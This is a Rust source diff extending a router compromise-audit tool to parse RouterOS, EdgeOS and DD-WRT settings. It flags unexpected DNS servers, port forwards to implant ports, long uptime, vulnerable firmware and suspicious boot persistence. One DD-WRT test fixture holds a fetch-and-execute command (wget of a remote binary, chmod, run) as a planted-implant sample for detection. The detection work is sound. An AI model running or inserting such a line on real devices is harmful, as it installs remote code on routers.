@@ -18,7 +18,18 @@ use orbwatch_intel::IndicatorValue;
 use crate::inventory::Router;
 use crate::profiles;
 use crate::ssh::SshOutput;
-use crate::vulnerable::{self, Entry};
+use crate::vendor;
+use crate::vulnerable::{self, Entry, FirmwareFacts};
+
+/// The DD-WRT nvram variables the `nvram` probe asks for.
+const NVRAM_NAMES: [&str; 6] = [
+    "wan_dns",
+    "forward_spec",
+    "forward_port",
+    "rc_startup",
+    "rc_firewall",
+    "rc_custom",
+];
 
 /// Ports relay implants are known to listen on, and who reported them.
 pub const IMPLANT_PORTS: [(u16, &str); 4] = [
@@ -214,10 +225,56 @@ pub fn run_all(
         text(profiles::UDP.id).unwrap_or(""),
         text(profiles::CONNTRACK.id).unwrap_or(""),
     );
+    let nat = text(profiles::NAT.id).unwrap_or("");
+    let mut nat_forwards = parse_iptables_forwards(nat);
+    nat_forwards.extend(parse_nft_forwards(nat));
+    let uci_fw = text(profiles::UCI_FIREWALL.id).unwrap_or("");
+    let ros_nat = text(profiles::ROS_NAT.id).unwrap_or("");
+    let config_boot = text(profiles::CONFIG_BOOT.id).unwrap_or("");
+    let config_leaves = vendor::parse_config_boot(config_boot);
+    let nvram = text(profiles::NVRAM.id).unwrap_or("");
+    let nvram_vars = vendor::parse_nvram(nvram, &NVRAM_NAMES);
+    let nvram_forwards: Vec<(usize, &str)> = ["forward_spec", "forward_port"]
+        .iter()
+        .flat_map(|k| nvram_vars.get(*k).cloned().unwrap_or_default())
+        .collect();
     check_forwards(
         &mut r,
-        text(profiles::NAT.id).unwrap_or(""),
-        text(profiles::UCI_FIREWALL.id).unwrap_or(""),
+        &[
+            ForwardSource {
+                command: profiles::NAT.command,
+                text: nat,
+                forwards: nat_forwards,
+            },
+            ForwardSource {
+                command: profiles::UCI_FIREWALL.command,
+                text: uci_fw,
+                forwards: parse_uci_forwards(uci_fw),
+            },
+            ForwardSource {
+                command: profiles::ROS_NAT.command,
+                text: ros_nat,
+                forwards: vendor::routeros_forwards(ros_nat),
+            },
+            ForwardSource {
+                command: profiles::CONFIG_BOOT.command,
+                text: config_boot,
+                forwards: vendor::config_boot_forwards(&config_leaves),
+            },
+            ForwardSource {
+                command: profiles::NVRAM.command,
+                text: nvram,
+                forwards: vendor::ddwrt_forwards(&nvram_forwards),
+            },
+        ],
+    );
+    check_vendor(
+        &mut r,
+        text(profiles::ROS_RESOURCE.id),
+        text(profiles::ROS_SCHEDULER.id),
+        text(profiles::ROS_SCRIPT.id),
+        (config_boot, &config_leaves),
+        &nvram_vars,
     );
     let mut exe_of_pid = HashMap::new();
     if let Some(t) = text(profiles::PROCESSES.id) {
@@ -229,10 +286,39 @@ pub fn run_all(
     if let Some(t) = text(profiles::PERSISTENCE.id) {
         check_persistence(&mut r, t);
     }
-    if let Some(t) = text(profiles::DNS.id) {
-        let uci = text(profiles::UCI_DNS.id).unwrap_or("");
-        check_dns(&mut r, t, uci);
+    // DNS servers the platform's own settings name, checked with the
+    // shell's resolv.conf and uci in one go (EdgeOS writes its
+    // name-server into both: one finding).
+    let mut vendor_dns: Vec<DnsServer<'_>> = Vec::new();
+    if let Some(t) = text(profiles::ROS_DNS.id) {
+        for key in ["servers", "dynamic-servers"] {
+            if let Some((v, n)) = vendor::routeros_fields(t).get(key) {
+                for ip in v.split(',').filter_map(|a| a.trim().parse::<IpAddr>().ok()) {
+                    let line = t.lines().nth(*n).unwrap_or("");
+                    vendor_dns.push((ip, *n, line, "RouterOS /ip dns", profiles::ROS_DNS.command));
+                }
+            }
+        }
     }
+    for (ip, n) in vendor::config_boot_dns(&config_leaves) {
+        let line = config_boot.lines().nth(n).unwrap_or("");
+        vendor_dns.push((ip, n, line, "config.boot", profiles::CONFIG_BOOT.command));
+    }
+    for (n, line) in nvram_vars.get("wan_dns").cloned().unwrap_or_default() {
+        for ip in line
+            .split_whitespace()
+            .filter_map(|a| a.parse::<IpAddr>().ok())
+        {
+            let full = nvram.lines().nth(n).unwrap_or("");
+            vendor_dns.push((ip, n, full, "nvram wan_dns", profiles::NVRAM.command));
+        }
+    }
+    check_dns(
+        &mut r,
+        text(profiles::DNS.id).unwrap_or(""),
+        text(profiles::UCI_DNS.id).unwrap_or(""),
+        vendor_dns,
+    );
     if let (Some(owned), Some(exes)) = (
         text(profiles::OPKG_FILES.id),
         text(profiles::SYSTEM_EXECUTABLES.id),
@@ -249,6 +335,19 @@ pub fn run_all(
     r.out
 }
 
+/// Seconds since boot from the output of `probe` (the profile's
+/// [`crate::Profile::uptime_probe`]): `/proc/uptime`, or RouterOS's
+/// `/system resource print`.
+pub fn uptime_from(probe: profiles::Probe, text: &str) -> Option<f64> {
+    if probe.id == profiles::ROS_RESOURCE.id {
+        let f = vendor::routeros_fields(text);
+        return f
+            .get("uptime")
+            .and_then(|(v, _)| vendor::routeros_duration(v));
+    }
+    uptime_secs(text)
+}
+
 /// Seconds since boot from `/proc/uptime`.
 pub fn uptime_secs(text: &str) -> Option<f64> {
     text.split_whitespace()
@@ -260,6 +359,10 @@ pub fn uptime_secs(text: &str) -> Option<f64> {
 
 fn check_uptime(r: &mut Raise<'_>, t: &str) {
     let Some(up) = uptime_secs(t) else { return };
+    check_uptime_secs(r, up, profiles::UPTIME.command, (0, t.trim()));
+}
+
+fn check_uptime_secs(r: &mut Raise<'_>, up: f64, command: &str, line: (usize, &str)) {
     let max = r.ctx.router.max_uptime_days.saturating_mul(86_400);
     if up > max as f64 {
         let days = up / 86_400.0;
@@ -272,8 +375,8 @@ fn check_uptime(r: &mut Raise<'_>, t: &str) {
                 "up {days:.1} days, longer than the policy's {} days: a reboot clears implants that live only in memory",
                 r.ctx.router.max_uptime_days
             ),
-            profiles::UPTIME.command,
-            &[(0, t.trim())],
+            command,
+            &[line],
             serde_json::json!({"uptime_secs": up}),
         );
     }
@@ -287,7 +390,16 @@ fn check_version(r: &mut Raise<'_>, t: &str) {
         .filter(|(_, l)| !l.trim().is_empty())
         .take(8)
         .collect();
-    for e in r.ctx.vulnerable.iter().filter(|e| e.matches(&facts)) {
+    check_version_facts(r, &facts, profiles::VERSION.command, &lines);
+}
+
+fn check_version_facts(
+    r: &mut Raise<'_>,
+    facts: &FirmwareFacts,
+    command: &str,
+    lines: &[(usize, &str)],
+) {
+    for e in r.ctx.vulnerable.iter().filter(|e| e.matches(facts)) {
         let what = format!(
             "{} {}",
             facts.os.as_deref().unwrap_or(""),
@@ -306,9 +418,9 @@ fn check_version(r: &mut Raise<'_>, t: &str) {
                 e.note,
                 if e.cves.is_empty() { String::new() } else { format!(" [{}]", e.cves.join(", ")) }
             ),
-            profiles::VERSION.command,
-            &lines,
-            serde_json::json!({"entry": e.id, "cves": e.cves, "campaigns": e.campaigns, "sources": e.sources, "list": e.list}),
+            command,
+            lines,
+            serde_json::json!({"entry": e.id, "cves": e.cves, "campaigns": e.campaigns, "advisories": e.advisories, "sources": e.sources, "list": e.list}),
         );
     }
 }
@@ -954,21 +1066,26 @@ pub fn is_outside(ip: IpAddr) -> bool {
 /// inventory's `expected_forwards` names its destination. The same
 /// forward seen by iptables, nftables (iptables-nft shows its rules in
 /// both) and uci is one finding, keyed by its destination.
-fn check_forwards(r: &mut Raise<'_>, nat: &str, uci: &str) {
-    let mut all = parse_iptables_forwards(nat);
-    all.extend(parse_nft_forwards(nat));
-    let uci_fw = parse_uci_forwards(uci);
-    let nat_lines: Vec<&str> = nat.lines().collect();
-    let uci_lines: Vec<&str> = uci.lines().collect();
-    let mut by_dest: BTreeMap<(String, String), Vec<&Forward>> = BTreeMap::new();
-    for f in all.iter().chain(&uci_fw) {
-        by_dest
-            .entry((f.kind.to_string(), f.destination()))
-            .or_default()
-            .push(f);
+/// Where forwards were read: the command, its output, the forwards parsed
+/// from it (whose line numbers point into that output).
+pub(crate) struct ForwardSource<'t> {
+    command: &'static str,
+    text: &'t str,
+    forwards: Vec<Forward>,
+}
+
+fn check_forwards(r: &mut Raise<'_>, sources: &[ForwardSource<'_>]) {
+    let mut by_dest: BTreeMap<(String, String), Vec<(&Forward, usize)>> = BTreeMap::new();
+    for (si, s) in sources.iter().enumerate() {
+        for f in &s.forwards {
+            by_dest
+                .entry((f.kind.to_string(), f.destination()))
+                .or_default()
+                .push((f, si));
+        }
     }
     for ((kind, dest), fs) in by_dest {
-        let f = fs[0];
+        let f = fs[0].0;
         let implant = f
             .to_port
             .and_then(|p| IMPLANT_PORTS.iter().find(|(ip, _)| *ip == p));
@@ -1012,26 +1129,23 @@ fn check_forwards(r: &mut Raise<'_>, nat: &str, uci: &str) {
                 )
             })
             .unwrap_or_default();
-        let mut nat_ev = Vec::new();
-        let mut uci_ev = Vec::new();
-        let mut sources = BTreeSet::new();
-        for g in &fs {
-            sources.insert(g.source);
+        let mut seen_in = BTreeSet::new();
+        let mut by_source: BTreeMap<usize, Vec<(usize, &str)>> = BTreeMap::new();
+        for (g, si) in &fs {
+            seen_in.insert(g.source);
+            let text = sources[*si].text;
             for n in &g.lines {
-                if g.source == "uci" {
-                    uci_ev.push((*n, uci_lines.get(*n).copied().unwrap_or("")));
-                } else {
-                    nat_ev.push((*n, nat_lines.get(*n).copied().unwrap_or("")));
-                }
+                by_source
+                    .entry(*si)
+                    .or_default()
+                    .push((*n, text.lines().nth(*n).unwrap_or("")));
             }
         }
-        let mut groups = Vec::new();
-        if !nat_ev.is_empty() {
-            groups.push((profiles::NAT.command, nat_ev));
-        }
-        if !uci_ev.is_empty() {
-            groups.push((profiles::UCI_FIREWALL.command, uci_ev));
-        }
+        let groups: Vec<(&str, Vec<(usize, &str)>)> = by_source
+            .into_iter()
+            .map(|(si, lines)| (sources[si].command, lines))
+            .collect();
+        let sources = seen_in;
         r.add_from(
             "port_forward",
             &format!("{kind} {dest}"),
@@ -1230,12 +1344,15 @@ fn check_persistence(r: &mut Raise<'_>, t: &str) {
     }
 }
 
-fn check_dns(r: &mut Raise<'_>, t: &str, uci: &str) {
+/// A DNS server the router names: address, line number, line, where
+/// (file, `uci`, `config.boot`…), the command that read it.
+type DnsServer<'t> = (IpAddr, usize, &'t str, &'t str, &'static str);
+
+fn check_dns<'t>(r: &mut Raise<'_>, t: &'t str, uci: &'t str, mut servers: Vec<DnsServer<'t>>) {
     let expected = &r.ctx.router.expected_dns;
     if expected.is_empty() {
         return;
     }
-    let mut servers: Vec<(IpAddr, usize, &str, &str)> = Vec::new();
     for (n, line) in t.lines().enumerate() {
         let Some((file, content)) = line.split_once(':') else {
             continue;
@@ -1244,7 +1361,7 @@ fn check_dns(r: &mut Raise<'_>, t: &str, uci: &str) {
         if w.next() == Some("nameserver")
             && let Some(ip) = w.next().and_then(|s| s.parse::<IpAddr>().ok())
         {
-            servers.push((ip, n, line, file));
+            servers.push((ip, n, line, file, profiles::DNS.command));
         }
     }
     for (n, line) in uci.lines().enumerate() {
@@ -1260,22 +1377,17 @@ fn check_dns(r: &mut Raise<'_>, t: &str, uci: &str) {
             .split(|c: char| c.is_whitespace() || c == '\'')
         {
             if let Ok(ip) = tok.parse::<IpAddr>() {
-                servers.push((ip, n, line, "uci"));
+                servers.push((ip, n, line, "uci", profiles::UCI_DNS.command));
             }
         }
     }
     let mut seen = BTreeSet::new();
-    for (ip, n, line, file) in servers {
+    for (ip, n, line, file, command) in servers {
         // A local resolver (dnsmasq) forwards to the configured upstreams,
         // which the other files and uci name.
         if ip.is_loopback() || expected.contains(&ip) || !seen.insert(ip) {
             continue;
         }
-        let command = if file == "uci" {
-            profiles::UCI_DNS.command
-        } else {
-            profiles::DNS.command
-        };
         r.add(
             "dns",
             &ip.to_string(),
@@ -1289,6 +1401,117 @@ fn check_dns(r: &mut Raise<'_>, t: &str, uci: &str) {
             &[(n, line)],
             serde_json::json!({"server": ip, "expected": expected}),
         );
+    }
+}
+
+/// RouterOS uptime and firmware (from `/system resource print`), and the
+/// persistence of RouterOS (scheduler, scripts), EdgeOS/VyOS (the task
+/// scheduler) and DD-WRT (the startup, firewall and custom scripts in
+/// nvram).
+fn check_vendor(
+    r: &mut Raise<'_>,
+    ros_resource: Option<&str>,
+    ros_scheduler: Option<&str>,
+    ros_script: Option<&str>,
+    (config_boot, leaves): (&str, &[vendor::ConfigLeaf]),
+    nvram_vars: &BTreeMap<String, Vec<(usize, &str)>>,
+) {
+    if let Some(t) = ros_resource {
+        let f = vendor::routeros_fields(t);
+        let line = |n: usize| (n, t.lines().nth(n).unwrap_or(""));
+        if let Some((v, n)) = f.get("uptime")
+            && let Some(up) = vendor::routeros_duration(v)
+        {
+            check_uptime_secs(r, up, profiles::ROS_RESOURCE.command, line(*n));
+        }
+        if let Some((v, n)) = f.get("version") {
+            let board = f.get("board-name");
+            let facts = FirmwareFacts {
+                os: Some("routeros".into()),
+                version: v.split_whitespace().next().map(str::to_string),
+                model: board.map(|(b, _)| b.clone()).unwrap_or_default(),
+                kernel: None,
+            };
+            let mut lines = vec![line(*n)];
+            if let Some((_, bn)) = board {
+                lines.push(line(*bn));
+            }
+            check_version_facts(r, &facts, profiles::ROS_RESOURCE.command, &lines);
+        }
+    }
+    for (text, probe, what, field) in [
+        (
+            ros_scheduler,
+            profiles::ROS_SCHEDULER,
+            "scheduler",
+            "on-event",
+        ),
+        (ros_script, profiles::ROS_SCRIPT, "script", "source"),
+    ] {
+        let Some(t) = text else { continue };
+        for it in vendor::parse_routeros_detail(t) {
+            let Some(code) = it.get(field) else { continue };
+            let Some(why) = vendor::routeros_suspicious(code) else {
+                continue;
+            };
+            let name = it.get("name").unwrap_or("?").to_string();
+            let lines: Vec<(usize, &str)> = it
+                .lines
+                .iter()
+                .map(|n| (*n, t.lines().nth(*n).unwrap_or("")))
+                .collect();
+            r.add(
+                "persistence",
+                &format!("routeros {what}:{name}"),
+                Severity::High,
+                85,
+                format!(
+                    "RouterOS {what} {name:?}{} survives a reboot and {why}: {code:?}",
+                    if it.disabled() { " (disabled)" } else { "" }
+                ),
+                probe.command,
+                &lines,
+                serde_json::json!({"file": format!("routeros {what}"), "entry": code, "name": name}),
+            );
+        }
+    }
+    for (task, path, n) in vendor::config_boot_tasks(leaves) {
+        let Some(why) = suspicious_persistence(&path) else {
+            continue;
+        };
+        let line = config_boot.lines().nth(n).unwrap_or("");
+        r.add(
+            "persistence",
+            &format!("task-scheduler:{task}"),
+            Severity::High,
+            85,
+            format!(
+                "task-scheduler task {task:?} in config.boot survives a reboot and {why}: {path:?}"
+            ),
+            profiles::CONFIG_BOOT.command,
+            &[(n, line)],
+            serde_json::json!({"file": "config.boot task-scheduler", "entry": path, "name": task}),
+        );
+    }
+    for var in ["rc_startup", "rc_firewall", "rc_custom"] {
+        for (n, content) in nvram_vars.get(var).cloned().unwrap_or_default() {
+            let Some(why) = suspicious_persistence(content) else {
+                continue;
+            };
+            r.add(
+                "persistence",
+                &format!("nvram {var}:{}", content.trim()),
+                Severity::High,
+                85,
+                format!(
+                    "DD-WRT's {var} script (nvram) runs at every boot and {why}: {:?}",
+                    content.trim()
+                ),
+                profiles::NVRAM.command,
+                &[(n, content)],
+                serde_json::json!({"file": format!("nvram {var}"), "entry": content.trim()}),
+            );
+        }
     }
 }
 
@@ -1927,6 +2150,134 @@ firewall.@rule[0].dest_port='22'
             &[],
         );
         assert!(f.is_empty());
+    }
+
+    fn vendor_router(profile: &str) -> Router {
+        let t = format!(
+            "[[router]]\nname='v'\nhost='192.0.2.10'\nuser='admin'\nprofile='{profile}'\nexpected_dns=['192.0.2.53']\nmax_uptime_days=30\n"
+        );
+        Inventory::parse(&t, Path::new("t.toml"))
+            .unwrap()
+            .routers
+            .remove(0)
+    }
+
+    fn keys_of(f: &[Finding]) -> Vec<String> {
+        let mut v: Vec<String> = f
+            .iter()
+            .map(|f| {
+                format!(
+                    "{} {}",
+                    check_of(f),
+                    f.details.as_ref().unwrap()["key"].as_str().unwrap()
+                )
+            })
+            .collect();
+        v.sort();
+        v
+    }
+
+    /// RouterOS end to end through `run_all`, on output written from the
+    /// RouterOS manual (see `vendor`'s tests for the formats).
+    #[test]
+    fn mikrotik_audit_from_console_output() {
+        let r = vendor_router("mikrotik");
+        assert_eq!(r.profile.probes().len(), 5);
+        let resource = "                   uptime: 5w2d03:14:07\n                  version: 6.41.3 (bugfix)\n                board-name: hAP ac\n                 platform: MikroTik\n";
+        let dns = "                      servers: 192.0.2.53,203.0.113.53\n              dynamic-servers: \n        allow-remote-requests: yes\n";
+        let script = "Flags: I - invalid \n 0   name=\"clean\" owner=\"admin\" policy=read,write dont-require-permissions=no run-count=0 source=\"/log info hello\" \n";
+        let vulnerable = vulnerable::parse_list(vulnerable::SHIPPED, "shipped").unwrap();
+        let hashes = HashMap::new();
+        let ctx = CheckContext {
+            router: &r,
+            hash_indicators: &hashes,
+            ip_indicators: &[],
+            vulnerable: &vulnerable,
+            own_keys: &[],
+            now: Timestamp::UNIX_EPOCH,
+        };
+        let mut o = Outputs::new();
+        for (probe, text) in [
+            (profiles::ROS_RESOURCE, resource),
+            (profiles::ROS_DNS, dns),
+            (profiles::ROS_NAT, vendor::tests::NAT_DETAIL),
+            (profiles::ROS_SCHEDULER, vendor::tests::SCHEDULER),
+            (profiles::ROS_SCRIPT, script),
+        ] {
+            o.insert(
+                probe.id,
+                SshOutput {
+                    command: probe.command.into(),
+                    status: Some(0),
+                    stdout: text.into(),
+                    stderr: String::new(),
+                },
+            );
+        }
+        let f = run_all(&ctx, &o, &BTreeMap::new());
+        assert_eq!(
+            keys_of(&f),
+            [
+                "dns 203.0.113.53",
+                "firmware routeros-winbox-cve-2018-14847",
+                "persistence routeros scheduler:upd113",
+                "port_forward dnat 192.168.88.10:22",
+                "port_forward dnat 203.0.113.5:11288",
+                "port_forward redirect :53",
+                "uptime over_policy",
+            ]
+        );
+        let sched = f.iter().find(|f| check_of(f) == "persistence").unwrap();
+        assert_eq!(
+            sched.evidence[0].raw,
+            format!("$ {}", profiles::ROS_SCHEDULER.command)
+        );
+        assert_eq!(
+            checks_uptime(&o, r.profile),
+            Some(5.0 * 604_800.0 + 2.0 * 86_400.0 + 3.0 * 3600.0 + 14.0 * 60.0 + 7.0)
+        );
+    }
+
+    fn checks_uptime(o: &Outputs, p: profiles::Profile) -> Option<f64> {
+        let probe = p.uptime_probe();
+        uptime_from(probe, &o.get(probe.id)?.stdout)
+    }
+
+    #[test]
+    fn edgeos_and_ddwrt_settings() {
+        let r = vendor_router("edgeos");
+        // EdgeOS names its resolver in resolv.conf and config.boot: one
+        // finding for the hijacked forwarder, whatever named it.
+        let resolv = "/etc/resolv.conf:nameserver 203.0.113.53\n";
+        let f = run_many(
+            &r,
+            &[
+                (profiles::CONFIG_BOOT, vendor::tests::EDGEOS_CONFIG),
+                (profiles::DNS, resolv),
+            ],
+            &[],
+        );
+        assert_eq!(
+            keys_of(&f),
+            [
+                "dns 203.0.113.53",
+                "persistence task-scheduler:upd",
+                "port_forward dnat 192.168.1.10:22",
+                "port_forward dnat 192.168.1.20:80",
+                "port_forward dnat 203.0.113.5:11288",
+            ]
+        );
+        let r = vendor_router("ddwrt");
+        let nvram = "wan_dns=203.0.113.53 192.0.2.53\nforward_spec=nas:on:tcp:2222>192.168.1.10:22 old:off:tcp:80>192.168.1.11:80\nforward_port=\nrc_startup=#!/bin/sh\nwget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x\nrc_firewall=\nrc_custom=\n";
+        let f = run_many(&r, &[(profiles::NVRAM, nvram)], &[]);
+        assert_eq!(
+            keys_of(&f),
+            [
+                "dns 203.0.113.53",
+                "persistence nvram rc_startup:wget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x",
+                "port_forward dnat 192.168.1.10:22",
+            ]
+        );
     }
 
     #[test]
